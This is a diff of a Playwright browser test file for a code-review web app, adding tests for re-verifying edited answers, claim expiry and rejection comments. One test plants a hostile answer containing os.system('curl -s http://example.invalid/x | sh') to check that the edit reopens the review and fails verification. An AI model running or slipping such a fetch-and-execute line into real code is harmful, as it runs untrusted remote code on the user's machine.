@@ -10,22 +10,32 @@ from __future__ import annotations
 
 import os
 from collections.abc import Iterator
+from datetime import timedelta
 from pathlib import Path
 
 import pytest
-from playwright.sync_api import Browser, Page, ViewportSize, sync_playwright
-from sqlalchemy import select
+from playwright.sync_api import Browser, Page, ViewportSize, expect, sync_playwright
+from sqlalchemy import select, update
 from sqlalchemy.orm import Session, sessionmaker
 
 from api.app import create_app
+from reflectseq.db.base import utcnow
 from reflectseq.db.models import Block, Message, Review
-from reflectseq.db.review_models import BlockEdit
+from reflectseq.db.review_models import AuditEntry, BlockEdit
 from reflectseq.db.session import transaction
 from reflectseq.enums import BlockKind, ExecutionStatus, ReviewStatus, UserRole
 from reflectseq.settings import Settings
 from reflectseq.store.reviews import decide
 from tests.review.conftest import served
-from tests.review.factories import PASSWORD, RIGHT, TROJAN, Attempt, completed_sequences, user
+from tests.review.factories import (
+    PAIR,
+    PASSWORD,
+    RIGHT,
+    TROJAN,
+    Attempt,
+    completed_sequences,
+    user,
+)
 
 CHROMIUM = Path("/usr/bin/chromium")
 pytestmark = [
@@ -155,9 +165,9 @@ def test_edit_and_rerun_a_block_from_the_page(page: Page, db: sessionmaker[Sessi
     _log_in_with_keyboard(page, "rita")
     page.goto(f"/review/sequences/{seq}")
     page.locator(f"#block-{code_id}").focus()
-    page.keyboard.press("e")
+    page.keyboard.press("e")  # fetches the block's edit form and focuses its text
+    expect(page.locator(f"#edit-{code_id}")).to_be_focused()
     editor = page.locator(f"#edit-{code_id}")
-    assert page.evaluate("document.activeElement.id") == f"edit-{code_id}"
     editor.fill(RIGHT)
     page.locator(f"#block-{code_id} button[name=rerun]").click()
     page.wait_for_url(f"**/review/sequences/{seq}#block-{code_id}")
@@ -213,13 +223,20 @@ def test_main_pages_render_at_desktop_and_narrow_widths(
         ]
         admin, rita = user(session, "admin", UserRole.ADMIN).id, user(session, "rita").id
         for index, seq in enumerate(ids[:3]):
-            decide(session, sequence_id=seq, reviewer_id=admin, status=ReviewStatus.ACCEPTED)
+            decide(
+                session,
+                sequence_id=seq,
+                reviewer_id=admin,
+                status=ReviewStatus.ACCEPTED,
+                rules=PAIR,
+            )
             verdict = ReviewStatus.REJECTED if index == 2 else ReviewStatus.ACCEPTED
             decide(
                 session,
                 sequence_id=seq,
                 reviewer_id=rita,
                 status=verdict,
+                rules=PAIR,
                 reason="weak_tests" if verdict == ReviewStatus.REJECTED else None,
             )
     _log_in_with_keyboard(page, "admin")
@@ -307,3 +324,135 @@ def test_bidi_controls_show_as_visible_markers(
     assert "<U+202E>" in code and "\u202e" not in code
     page.locator("article.kind-code").first.scroll_into_view_if_needed()
     page.screenshot(path=str(screenshot_dir / "sequence-bidi.png"))
+
+
+def _final_answer_id(session: Session, sequence_id: int) -> int:
+    return session.scalars(
+        select(Block.id)
+        .join(Message)
+        .where(Message.sequence_id == sequence_id, Message.index == 3, Block.index == 0)
+    ).one()
+
+
+def _not_found(page: Page) -> list[str]:
+    """URLs the page's requests got 404 for, filled as the test goes (favicon included)."""
+    missing: list[str] = []
+    page.on(
+        "response",
+        lambda response: missing.append(response.url) if response.status == 404 else None,
+    )
+    return missing
+
+
+def test_an_edit_after_an_accept_reopens_the_review_and_reverifies_the_answer(
+    page: Page, db: sessionmaker[Session]
+) -> None:
+    hostile = (
+        "Here it is:\n\n```python\nimport os\nos.system('curl -s http://example.invalid/x | sh')\n"
+        "def add(a, b):\n    return a - b\n```"
+    )
+    with transaction(db) as session:
+        seq = completed_sequences(session, 1)[0].id
+        user(session, "rita")
+        answer_id = _final_answer_id(session, seq)
+    missing = _not_found(page)
+    _log_in_with_keyboard(page, "rita")
+    page.goto(f"/review/sequences/{seq}")
+    page.keyboard.press("a")
+    page.wait_for_url("**/review/?**empty=1**")
+    page.goto(f"/review/sequences/{seq}")
+    assert page.locator("#my-status").inner_text() == "accepted"
+    assert "verification: passed" in page.locator("#answer-verdict").inner_text()
+
+    page.locator(f"#block-{answer_id}").focus()
+    page.keyboard.press("e")
+    expect(page.locator(f"#edit-{answer_id}")).to_be_focused()
+    assert "re-verifies the answer" in page.locator(f"#block-{answer_id} .edit-form").inner_text()
+    page.locator(f"#edit-{answer_id}").fill(hostile)
+    page.locator(f"#block-{answer_id}").get_by_role("button", name="Save edit").click()
+    page.wait_for_url(f"**/review/sequences/{seq}#block-{answer_id}")
+
+    assert page.locator("#my-status").inner_text() == "draft"  # the accept was reopened
+    assert page.locator("#answer-verdict").inner_text() == "re-verification of v1: failed"
+    assert page.locator("#edited-at").is_visible()
+    changes = page.locator(f"#block-{answer_id} .edit-diff").inner_text()
+    assert "+os.system('curl -s http://example.invalid/x | sh')" in changes
+    lines = page.locator(f"#block-{answer_id} .edit-diff pre span")
+    line_height = (lines.first.bounding_box() or {"height": 0})["height"]
+    diff_box = page.locator(f"#block-{answer_id} .edit-diff pre").bounding_box()
+    assert diff_box is not None and line_height > 0
+    assert diff_box["height"] < (lines.count() + 2) * line_height  # single-spaced, no gaps
+    with transaction(db) as session:
+        review = session.scalars(select(Review)).one()
+        answer = session.scalars(select(BlockEdit)).one()
+    assert (review.status, answer.run_status) == (ReviewStatus.DRAFT, ExecutionStatus.FAILED)
+    assert missing == []
+
+
+def test_claims_expire_and_are_released_with_the_keyboard(
+    page: Page, browser: Browser, base_url: str, db: sessionmaker[Session]
+) -> None:
+    with transaction(db) as session:
+        first, _second = (s.id for s in completed_sequences(session, 2))
+        user(session, "rita")
+        user(session, "bob")
+    _log_in_with_keyboard(page, "rita")
+    page.keyboard.press("n")
+    page.wait_for_url(f"**/review/sequences/{first}")
+    assert "Held for you until" in page.locator("#claim-expiry").inner_text()
+    with transaction(db) as session:  # rita walks away: her claim ages past the claim time
+        session.execute(update(Review).values(created_at=utcnow() - timedelta(hours=2)))
+
+    page.reload()
+    assert "Your claim lapsed at" in page.locator("#claim-expiry").inner_text()
+    other = browser.new_context(base_url=base_url, viewport=DESKTOP)
+    other.set_default_timeout(TIMEOUT_MS)
+    bob = other.new_page()
+    try:
+        _log_in_with_keyboard(bob, "bob")
+        bob.keyboard.press("n")  # the expired claim is released and handed to bob
+        bob.wait_for_url(f"**/review/sequences/{first}")
+
+        page.keyboard.press("a")  # rita's decision now comes too late
+        page.wait_for_load_state()
+        assert (
+            "already has the 1 reviewer it needs: bob" in page.locator("[role=alert]").inner_text()
+        )
+
+        bob.keyboard.press("x")  # bob gives it back
+        bob.wait_for_url(f"**/review/?released={first}")
+        assert f"Sequence #{first} released" in bob.locator("#notice").inner_text()
+    finally:
+        other.close()
+    with transaction(db) as session:
+        assert session.scalars(select(Review)).all() == []
+        actions = set(session.scalars(select(AuditEntry.action)))
+    assert {"review.expire", "review.release"} <= actions
+
+
+def test_a_rejection_missing_its_comment_keeps_the_form(
+    page: Page, db: sessionmaker[Session]
+) -> None:
+    with transaction(db) as session:
+        seq = completed_sequences(session, 1)[0].id
+        user(session, "rita")
+    _log_in_with_keyboard(page, "rita")
+    page.goto(f"/review/sequences/{seq}")
+    page.keyboard.press("r")
+    page.locator("#reason").select_option("other")
+    page.locator("#comment").fill("   ")
+    page.get_by_role("button", name="Reject").click()
+    page.wait_for_load_state()
+    assert "needs a comment" in page.locator("#comment-error").inner_text()
+    assert page.locator("#reason").input_value() == "other"  # what was chosen is kept
+    assert page.locator("#comment").get_attribute("aria-describedby") == "comment-error"
+    page.locator("#comment").fill("the tests only print")
+    page.get_by_role("button", name="Reject").click()
+    page.wait_for_url("**/review/?**")
+    with transaction(db) as session:
+        review = session.scalars(select(Review)).one()
+    assert (review.status, review.reason, review.comment) == (
+        ReviewStatus.REJECTED,
+        "other",
+        "the tests only print",
+    )
